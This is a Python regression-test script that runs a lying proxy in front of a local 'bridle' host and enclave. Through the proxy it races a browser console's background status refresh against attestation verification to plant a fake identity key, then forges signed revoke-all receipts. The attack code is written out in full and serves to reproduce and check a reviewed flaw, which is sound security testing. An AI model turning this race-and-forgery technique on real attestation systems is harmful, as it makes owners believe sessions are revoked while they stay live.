"""A lying host races the console's background refresh against "Verify attestation", to
have the genuine page trust a key the host holds, then forges that key's receipt for a
revoke-all (a review of 2026-12-07 found the page stored the host's key as attested).

The host here is a small HTTP proxy in front of `bridle dev` (the real host and enclave):
it relays everything unchanged except

- while armed, it holds the page's background `GET /v1/status` (the 15 s refresh) until the
  page asks `GET /v1/attestation` (the owner clicked "Verify attestation") — or, since a page
  whose actions wait for a refresh in flight never asks meanwhile, at most HOLD_SECS — then
  answers that status with another identity key B, and relays the enclave's genuine
  attestation document (for the real key A and the page's nonce);
- from then on, it answers `POST /v1/owners/{o}/revoke-all` itself, with a receipt signed
  by B, never telling the enclave.

Prints one JSON line of observations for tests/tests/console_lying_host.rs.
"""

import argparse
import json
import os
import re
import struct
import threading
import time
import urllib.request
from urllib.parse import urlparse

from eth_account import Account
from eth_keys import keys
from eth_utils import keccak
from playwright.sync_api import expect, sync_playwright

from harness import Relay, attest, open_page, owner_wallet, serve


HOLD_SECS = 8  # how long the proxy holds the background status for the owner's click

FAKE = keys.PrivateKey(os.urandom(32))
FAKE_PK = "0x" + FAKE.public_key.to_compressed_bytes().hex()
FAKE_ADDR = FAKE.public_key.to_checksum_address()


def forged_revoked(owner, nonce, sessions):
    """The enclave's `revoked` reply as the console checks it, signed by FAKE."""
    def text(s):
        b = s.encode()
        assert len(b) < 24
        return bytes([0x60 | len(b)]) + b
    arr = bytes([0x80 | len(sessions)]) + b"".join(bytes([0x54]) + bytes.fromhex(s[2:]) for s in sessions)
    body = bytes([0xA1]) + text("sessions") + arr
    word = keccak(b"bridle/owner-receipt/v1" + bytes.fromhex(owner[2:]) + int(nonce).to_bytes(32, "big"))
    t = int(time.time())
    kind = b"revoked"
    digest = keccak(b"bridle/receipt/v1" + struct.pack(">I", len(kind)) + kind + bytes.fromhex(FAKE_ADDR[2:])
                    + struct.pack(">Q", t) + word + keccak(body))
    sig = FAKE.sign_msg_hash(digest)
    sb = sig.to_bytes()[:64] + bytes([sig.v + 27])
    return {"sessions": sessions, "receipt": {"enclave": FAKE_ADDR, "time": t, "nonce": "0x" + word.hex(), "signature": "0x" + sb.hex()}}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--url", required=True)
    ap.add_argument("--root", required=True)
    ap.add_argument("--owner-key", required=True)
    ap.add_argument("--agent-public-key", required=True)
    ap.add_argument("--policy", required=True)
    ap.add_argument("--chromium", default="/usr/bin/chromium")
    a = ap.parse_args()
    upstream = a.url.rstrip("/")
    owner = Account.from_key(a.owner_key)
    st = {"armed": False, "swapped": False, "held": threading.Event(), "attest_seen": threading.Event(),
          "status_answered": threading.Event(), "attest_before_answer": False, "forged": [], "session": None, "enclave_asked_revoke_all": 0}

    class Proxy(Relay):
        target = upstream

        def do_GET(self):
            u = urlparse(self.path)
            if u.path == "/v1/status" and not u.query and (st["armed"] or st["swapped"]):
                if not st["swapped"]:
                    st["held"].set()
                    st["attest_seen"].wait(HOLD_SECS)
                code, h, data = self.relay("GET")
                body = json.loads(data)
                body["identity_public_key"] = FAKE_PK
                body["identity_address"] = FAKE_ADDR
                st["swapped"] = True
                self.answer(code, h, json.dumps(body).encode())
                st["status_answered"].set()
                return
            if u.path == "/v1/attestation" and st["armed"] and not st["attest_seen"].is_set():
                st["attest_before_answer"] = not st["status_answered"].is_set()
                st["attest_seen"].set()
                st["status_answered"].wait(30)
                time.sleep(0.5)  # the page has read the swapped status before this reply
            elif u.path == "/v1/attestation" and st["swapped"]:
                time.sleep(5)  # any other check for B's key answers after the owner's one
            code, h, data = self.relay("GET")
            self.answer(code, h, data)

        def do_POST(self):
            n = int(self.headers.get("Content-Length") or 0)
            data = self.rfile.read(n) if n else b""
            u = urlparse(self.path)
            if st["swapped"] and re.fullmatch(r"/v1/owners/0x[0-9a-fA-F]{40}/revoke-all", u.path):
                auth = json.loads(data)["auth"]
                reply = forged_revoked(auth["owner"], auth["nonce"], [st["session"]] if st["session"] else [])
                st["forged"].append(u.path)
                return self.answer(200, {"Content-Type": "application/json"}, json.dumps(reply).encode())
            if u.path.endswith("/revoke-all"):
                st["enclave_asked_revoke_all"] += 1
            code, h, body = self.relay("POST", data)
            self.answer(code, h, body)

    url, srv = serve(Proxy)

    asked = []
    obs = {"fake_identity": FAKE_ADDR, "fake_public_key": FAKE_PK}

    wallet = owner_wallet(owner, asked)

    with sync_playwright() as pw:
        browser, page = open_page(pw, a.chromium, wallet)
        status = page.locator("#status")

        def wait_status(text, timeout=30000):
            expect(status).to_contain_text(text, timeout=timeout)

        # Phase 1, an honest relay: attest the real enclave A and grant a session.
        attest(page, url, a.root, wait_status)
        obs["attested_identity"] = page.evaluate(
            "fetch('/v1/status').then(r => r.json()).then(s => s.identity_address)")
        page.click("#connect")
        wait_status("connected")
        page.fill("#agent-key", a.agent_public_key)
        page.set_input_files("#policy-file", a.policy)
        page.click("#preview")
        wait_status("read the document you sign")
        page.click("#grant-btn")
        wait_status("granted")
        session = page.locator("#detail-session").inner_text().strip()
        st["session"] = session
        obs["session"] = session

        # Phase 2: the owner verifies the enclave again while a background refresh is in flight.
        st["armed"] = True
        assert st["held"].wait(40), "no background refresh came"
        page.click("#verify-attestation")
        expect(status).to_contain_text(
            re.compile("attestation verified in this browser|Verifying the attestation failed"), timeout=60000)
        page.wait_for_timeout(1500)
        obs["verify_status"] = status.inner_text()
        obs["attestation_asked_before_status_answered"] = st["attest_seen"].is_set() and st["attest_before_answer"]
        obs["trust_badge"] = page.locator("#trust").inner_text()
        obs["trust_detail"] = page.locator("#trust-detail").inner_text()
        obs["identity_shown"] = page.locator("#identity").inner_text()
        obs["stored_trust"] = page.evaluate("localStorage.getItem('bridle.trust')")

        # Phase 3: revoke all — the host answers with B's receipt; the enclave never hears of it.
        page.click("#revoke-all")
        expect(status).to_contain_text(re.compile("Revoking every session failed|revoked"), timeout=30000)
        obs["revoke_all_status"] = status.inner_text()
        obs["revoke_all_status_class"] = status.get_attribute("class")
        obs["revoke_all_wallet_enclave"] = asked[-1]["message"]["enclave"]
        obs["forged_replies"] = len(st["forged"])
        obs["enclave_asked_revoke_all"] = st["enclave_asked_revoke_all"]
        browser.close()

    # The enclave's word, from the real host directly (no proxy).
    with urllib.request.urlopen(f"{upstream}/v1/sessions/{session}") as r:
        obs["real_session_state"] = json.loads(r.read())["session"]["state"]
    srv.shutdown()
    print(json.dumps(obs))


if __name__ == "__main__":
    main()
